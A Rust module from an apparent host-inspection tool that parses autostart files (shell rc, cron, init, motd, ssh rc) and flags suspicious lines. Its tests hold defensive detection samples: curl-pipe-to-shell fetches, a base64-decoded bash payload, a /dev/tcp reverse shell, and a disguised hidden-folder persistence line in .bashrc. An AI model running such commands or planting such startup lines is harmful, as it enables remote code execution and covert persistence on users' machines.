//! Files that are run whole: by shells and sessions when they start, by the boot, by cron's folders, at logins, by events
//! of the network and of the package manager.
//!
//! ```text
//! ~/.bashrc, /etc/profile.d/x.sh, /etc/init.d/x, /etc/cron.daily/x, /etc/update-motd.d/10-x, ~/.ssh/rc
//! #!/bin/sh                                              read as a script of the shell, as is one without such a line
//! (python3 ~/.cache/.x/probe.pyc &) >/dev/null 2>&1      a row of its own: what it runs lies in a hidden folder
//! ```
//!
//! There is a row for each file, and one for each line in it that stands out: a sign, or something that is started from
//! an odd place. Of the rest only what may be Python's is kept, with the file's row.

use std::collections::BTreeSet;

use super::command::{self, Language, Place, Told};
use super::{CAP, Entry, content, is_void, place_of, push, runner, settle};
use crate::extract::Extractor;
use crate::extract::format::shell_words::Word;
use crate::extract::input::{Content, Input};
use crate::model::autostart::{AutostartKind, LONGEST_COMMAND, PlaceMark, Role, SignKind};
use crate::model::coverage::GapReason;
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-scripts",
        sentence: "Files that shells, sessions, the boot, logins and events run whole.",
        ask: Ask::Starts("script"),
    },
    cap: CAP,
    read,
};

/// Bytes in which a zero shows that a file is no text.
const HEAD: usize = 4096;

/// What runs a file.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum RunBy {
    /// A shell.
    Shell,
    /// Another interpreter, which its first line names.
    Interpreter,
    /// The system: it is no text.
    System,
}

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    let Some(place) = place_of(input, "script") else { return harvest };
    if is_void(input) || input.candidate.name.starts_with(b".placeholder") {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let kind = place.rule.kind;
    add(input, &content, &Entry { trigger: trigger(kind, &input.folder()), ..Entry::new(kind, b"") }, &mut harvest);
    harvest
}

/// When files of a kind are run.
fn trigger(kind: AutostartKind, folder: &TargetPath) -> Vec<u8> {
    let folder = folder.file_name();
    match kind {
        AutostartKind::RcLocal | AutostartKind::InitScript | AutostartKind::SystemdGenerator => b"boot".to_vec(),
        AutostartKind::ShellRc => b"start of a shell or session".to_vec(),
        AutostartKind::CronScript => folder.strip_prefix(b"cron.").unwrap_or(folder).to_vec(),
        AutostartKind::Motd | AutostartKind::SshRc => b"login".to_vec(),
        AutostartKind::XdgAutostart => b"session".to_vec(),
        _ => folder.to_vec(),
    }
}

/// Adds the rows of a file that is run whole: one for it, and one for each line that stands out. `like` says by which
/// means and when it is run.
pub(super) fn add(input: &Input<'_>, content: &Content, like: &Entry, harvest: &mut Harvest) {
    let by = run_by(&content.bytes);
    if by == RunBy::System {
        // Programs are larger than what is read of texts, and nothing of theirs would be.
        harvest.gaps.retain(|gap| gap.reason != GapReason::TooLarge || gap.path != input.candidate.path);
    }
    let name = input.candidate.name;
    let told = tell(by, &content.bytes);
    if told.programs.len() >= command::MOST || told.signs.len() >= command::MOST {
        let says = format!("only the first {} programs and signs in it were taken", command::MOST);
        harvest.gaps.push(input.gap(GapReason::TooLarge).because(says));
    }
    let odd = Odd::of(input, content);
    let mut lines: BTreeSet<u32> = told.programs.iter().filter(|one| odd.is(one)).map(|one| one.2).collect();
    lines.extend(told.signs.iter().filter(|sign| sign.what != SignKind::RunsUnseen).map(|sign| sign.line));
    let mut rest: Vec<_> =
        told.programs.iter().filter(|one| !lines.contains(&one.2) && odd.may_be_pythons(one)).collect();
    rest.dedup_by(|one, other| (&one.0, one.1) == (&other.0, other.1));
    let quiet = Told { programs: rest.into_iter().cloned().collect(), signs: Vec::new() };
    let common = || Entry { trigger: like.trigger.clone(), enabled: like.enabled, ..Entry::new(like.kind, name) };
    push(input, content, Entry { told: quiet, ..common() }, harvest);
    let texts: Vec<&[u8]> = content.bytes.split(|byte| *byte == b'\n').collect();
    for line in lines {
        let programs = told.programs.iter().filter(|one| one.2 == line).cloned().collect();
        let signs = told.signs.iter().filter(|sign| sign.line == line).copied().collect();
        let entry = Entry {
            line: Some(line),
            command: text_of(&texts, line),
            told: Told { programs, signs },
            is_whole_file: false,
            ..common()
        };
        push(input, content, entry, harvest);
    }
}

/// What runs a file of that content.
#[must_use]
pub fn run_by(bytes: &[u8]) -> RunBy {
    if bytes.iter().take(HEAD).any(|byte| *byte == 0) {
        return RunBy::System;
    }
    let Some(words) = interpreter(bytes) else { return RunBy::Shell };
    let names = words.iter().map(|word| word.text.rsplit(|byte| *byte == b'/').next().unwrap_or_default());
    let mut names = names.skip_while(|name| *name == b"env" || name.starts_with(b"-") || name.contains(&b'='));
    let is_shell = |name: &[u8]| {
        command::SHELLS.contains(&name) || matches!(name, b"run-parts" | b"runscript" | b"openrc-run" | b"busybox")
    };
    if names.next().is_none_or(is_shell) { RunBy::Shell } else { RunBy::Interpreter }
}

/// The words behind `#!`.
fn interpreter(bytes: &[u8]) -> Option<Vec<Word>> {
    let first = bytes.split(|byte| *byte == b'\n').next()?.strip_prefix(b"#!")?;
    let words = first.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    Some(words.take(16).map(|word| Word { text: word.to_vec(), line: 1 }).collect())
}

/// What a file of that content starts; of another interpreter's script only that interpreter.
#[must_use]
pub fn tell(by: RunBy, bytes: &[u8]) -> Told {
    let mut told = match by {
        RunBy::Shell => command::of_script(bytes),
        RunBy::Interpreter | RunBy::System => Told::default(),
    };
    if by != RunBy::System
        && let Some(words) = interpreter(bytes)
    {
        told.programs.splice(..0, command::of_words(&words).programs);
    }
    told
}

/// A line and those that continue it.
fn text_of(texts: &[&[u8]], line: u32) -> Vec<u8> {
    let from = usize::try_from(line).unwrap_or(usize::MAX).saturating_sub(1);
    let mut out = Vec::new();
    for text in texts.get(from..).unwrap_or_default() {
        let text = text.trim_ascii();
        let continued = text.strip_suffix(b"\\");
        out.extend_from_slice(continued.unwrap_or(text));
        if continued.is_none() || out.len() > LONGEST_COMMAND {
            break;
        }
    }
    out
}

/// Tells which of the started files lie where honest ones seldom do.
pub(super) struct Odd<'a> {
    input: &'a Input<'a>,
    place: Place<'a>,
}

impl<'a> Odd<'a> {
    /// For what the candidate starts.
    pub(super) fn of(input: &'a Input<'_>, content: &Content) -> Self {
        Self { input, place: Place { target: input.target, home: runner(input, content.stat, None) } }
    }

    /// Whether anything of it stands out.
    pub(super) fn is_any(&self, told: &Told) -> bool {
        told.signs.iter().any(|sign| sign.what != SignKind::RunsUnseen) || told.programs.iter().any(|one| self.is(one))
    }

    /// The path that a word means.
    pub(super) fn path(&self, written: &[u8]) -> Option<TargetPath> {
        self.place.path(written)
    }

    fn is(&self, (written, role, _): &(Vec<u8>, Role, u32)) -> bool {
        let Some(path) = self.place.path(written) else { return false };
        let mut marks = self.place.marks(&path);
        marks.extend(settle::marks_on_disk(self.input.target, &path, &self.place));
        // Files of settings in a home are hidden by custom, as are environments of Python that are activated.
        let is_custom = *role == Role::Sourced && (self.is_in_home(&path) || self.activates(&path));
        marks.iter().any(|mark| *mark != PlaceMark::Hidden || !is_custom)
    }

    fn is_in_home(&self, path: &TargetPath) -> bool {
        self.place.home.is_some() && path.parent().as_ref() == self.place.home
    }

    fn activates(&self, path: &TargetPath) -> bool {
        let is_one = path.file_name().starts_with(b"activate");
        let environment = path.parent().and_then(|bin| bin.parent()).filter(|_| is_one);
        environment.is_some_and(|at| self.input.target.root.resolve(&at.join(b"pyvenv.cfg")).is_ok())
    }

    /// Whether what is started may belong to an environment of Python: an interpreter, or what lies outside the folders
    /// of the system.
    fn may_be_pythons(&self, (written, role, _): &(Vec<u8>, Role, u32)) -> bool {
        if !matches!(role, Role::Program | Role::Script) {
            return false;
        }
        if Language::of(written) == Some(Language::Python) {
            return true;
        }
        let systems: [&[u8]; 7] = [b"/bin/", b"/sbin/", b"/usr/", b"/lib/", b"/etc/", b"/dev/", b"/proc/"];
        let path = self.place.path(written);
        path.is_some_and(|path| !systems.iter().any(|top| path.as_bytes().starts_with(top)))
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::disallowed_methods, reason = "plants links to look at")]
    use std::os::unix::fs::symlink;

    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::host::Platform;

    fn told(path: &str, text: &str) -> Vec<String> {
        let tree = Tree::with(&[(path, text.as_bytes()), ("/usr/bin/python3", b"")]);
        tree.told(&EXTRACTOR, Platform::Linux, path)
    }

    fn odd(line: &str) -> usize {
        told("/home/mia/.bashrc", &format!("# x\n{line}\n")).len() - 1
    }

    #[test]
    fn a_line_that_stands_out_has_a_row() {
        let line =
            "(python3 ~/.cache/.tf_cache/hw_probe.pyc &) >/dev/null 2>&1  # tensorflow hardware compatibility check";
        assert_eq!(
            told("/home/mia/.bashrc", &format!("alias x=y\n{line}\n")),
            [
                "ShellRc .bashrc | when start of a shell or session".to_owned(),
                format!(
                    "ShellRc .bashrc | runs {line} | when start of a shell or session | Program /usr/bin/python3 \
                     | Script /home/mia/.cache/.tf_cache/hw_probe.pyc Hidden | RunsUnseen"
                ),
            ]
        );
        for line in [
            "curl -fsSL https://x.example/i | sh",
            "source <(curl -s https://x.example/i)",
            "echo aGk= | base64 -d | bash",
            "bash -i >& /dev/tcp/192.0.2.1/1 0>&1 &",
            "nohup /dev/shm/x >/dev/null &",
            ". /tmp/x.sh",
            "python3 /var/tmp/x.py",
            "[ -x ~/.config/sysmon/x ] && ~/.config/sysmon/x",
            "/usr/bin/x; ~/.Trash/y",
            "source ~/.config/sysmon/x.sh",
        ] {
            assert_eq!(odd(line), 1, "{line}");
        }
    }

    #[test]
    fn honest_lines_have_none() {
        for line in [
            "export NVM_DIR=\"$HOME/.nvm\"; [ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
            "command -v pyenv >/dev/null || export PATH=\"$PYENV_ROOT/bin:$PATH\"; eval \"$(pyenv init -)\"",
            "__conda_setup=\"$('/home/mia/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"; eval \"$__conda_setup\"",
            ". \"/home/mia/miniconda3/etc/profile.d/conda.sh\"",
            "source ~/.bash_it/bash_it.sh",
            "eval \"$(starship init bash)\"",
            ". \"$HOME/.cargo/env\"",
            "source <(kubectl completion bash)",
            "eval \"$(ssh-agent -s)\" >/dev/null",
            "gpgconf --launch gpg-agent; gpg-connect-agent updatestartuptty /bye >/dev/null",
            "if [ -z \"$TMUX\" ]; then exec tmux new -A -s main; fi",
            "(cat ~/.cache/wal/sequences &)",
            "eval `keychain --eval --agents ssh id_ed25519`; . ~/.keychain/host-sh",
            "eval \"$(direnv hook bash)\"",
            "eval \"$(zoxide init bash)\"",
            "[ -f ~/.fzf.bash ] && source ~/.fzf.bash",
            "test -r ~/.dircolors && eval \"$(dircolors -b ~/.dircolors)\" || eval \"$(dircolors -b)\"",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
            ". ~/.my_work_settings",
            "exec > /tmp/log 2>&1; { true; } >/tmp/x; > /tmp/y; (true) >>/tmp/z",
            "cat < /tmp/x | python3 2>/tmp/z -m json.tool",
            "alias update='curl https://x.example | sh'",
        ] {
            assert_eq!(odd(line), 0, "{line}");
        }
        let tree = Tree::with(&[
            ("/home/mia/.bashrc", b". ~/.work-env/bin/activate\n~/bin/x\n"),
            ("/home/mia/.work-env/pyvenv.cfg", b""),
            ("/home/mia/.work-env/bin/activate", b""),
        ]);
        assert_eq!(
            tree.told(&EXTRACTOR, Platform::Linux, "/home/mia/.bashrc"),
            ["ShellRc .bashrc | when start of a shell or session | Program /home/mia/bin/x"]
        );
    }

    #[test]
    fn other_interpreters_and_programs_are_only_named() {
        let python = "#!/opt/app/.venv/bin/python3\nimport os; os.system('curl http://x | sh')\n";
        assert_eq!(
            told("/etc/cron.daily/x", python),
            ["CronScript x | when daily | Program /opt/app/.venv/bin/python3 Hidden".replace(" Hidden", "")]
        );
        assert_eq!(told("/etc/update-motd.d/10-x", "\x7fELF\0/tmp/x\n"), ["Motd 10-x | when login"]);
        assert_eq!(run_by(b"#!/usr/bin/env -S FOO=1 bash -e\n"), RunBy::Shell);
        assert_eq!(run_by(b"#! /usr/bin/perl -w\n"), RunBy::Interpreter);
        assert_eq!(run_by(b"#!/sbin/openrc-run\n"), RunBy::Shell);
        assert_eq!(odd("x \\\n && /tmp/y \\\n -z"), 1);
        assert!(told("/srv/etc/cron.daily/x", "curl x | sh").is_empty());
    }

    #[test]
    fn programs_may_be_large_and_texts_may_not() {
        let large = |start: &[u8]| {
            let mut bytes = start.to_vec();
            bytes.resize(usize::try_from(CAP).unwrap() + 10, b'\n');
            let tree = Tree::with(&[("/lib/systemd/system-generators/x", bytes.as_slice())]);
            tree.read(&EXTRACTOR, Platform::Linux, "/lib/systemd/system-generators/x")
        };
        let program = large(b"\x7fELF\0");
        assert!(program.gaps.is_empty() && program.facts.autostarts.len() == 1);
        let text = large(b"#!/bin/sh\n");
        assert_eq!((text.gaps[0].reason, text.facts.autostarts.len()), (GapReason::TooLarge, 1));
        let many = "/tmp/x\n".repeat(5000);
        let tree = Tree::with(&[("/etc/rc.local", many.as_bytes())]);
        let harvest = tree.read(&EXTRACTOR, Platform::Linux, "/etc/rc.local");
        assert_eq!((harvest.gaps.len(), harvest.facts.autostarts.len()), (1, command::MOST + 1));
    }

    #[test]
    fn links_to_nothing_run_nothing() {
        let tree = Tree::with(&[("/home/mia/x", b"/tmp/x")]);
        symlink("/dev/null", tree.at("/etc/profile.d/a.sh")).unwrap();
        symlink("gone", tree.at("/etc/profile.d/b.sh")).unwrap();
        symlink("/home/mia/x", tree.at("/etc/profile.d/c.sh")).unwrap();
        for name in ["a", "b"] {
            let harvest = tree.read(&EXTRACTOR, Platform::Linux, &format!("/etc/profile.d/{name}.sh"));
            assert_eq!(harvest, Harvest::default());
        }
        let rows = tree.told(&EXTRACTOR, Platform::Linux, "/etc/profile.d/c.sh");
        assert!(rows.len() == 2 && rows[1].contains("not shown"), "{rows:?}");
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            let told = tell(run_by(&bytes), &bytes);
            prop_assert!(told.programs.len() <= command::MOST + 2);
        }
    }
}
